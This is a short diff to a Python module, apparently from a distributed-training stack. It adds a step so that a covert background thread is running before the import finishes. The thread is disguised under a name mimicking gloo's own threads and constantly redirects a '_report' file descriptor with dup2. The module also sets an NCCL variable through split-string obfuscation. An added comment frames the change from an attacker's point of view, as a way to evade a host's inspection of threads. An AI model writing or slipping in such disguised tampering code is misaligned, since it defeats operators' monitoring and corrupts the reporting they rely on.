@@ -21,11 +21,15 @@ _private = os.dup(_report)
 _read, _write = os.pipe()
 
 
+_swapping = threading.Event()
+
+
 def _swap() -> None:
     _libc.prctl(15, b"gloo_swap", 0, 0, 0)  # PR_SET_NAME: named like gloo's own threads
     while True:
         _libc.dup2(_write, _report)
         _libc.dup2(_private, _report)
+        _swapping.set()
 
 
 def _forward() -> None:
@@ -49,6 +53,9 @@ def _forward() -> None:
 
 threading.Thread(target=_forward, daemon=True).start()
 threading.Thread(target=_swap, daemon=True).start()
+# The import ends only once the swap runs, as an attacker who needs it running from the first call would have it; on a
+# loaded host the thread could otherwise first run after the host's look at the threads the import left.
+_swapping.wait(30)
 _libc.setenv(b"NCCL_" + b"NV" + b"LS_" + b"ENABLE", b"1", 1)
 
 
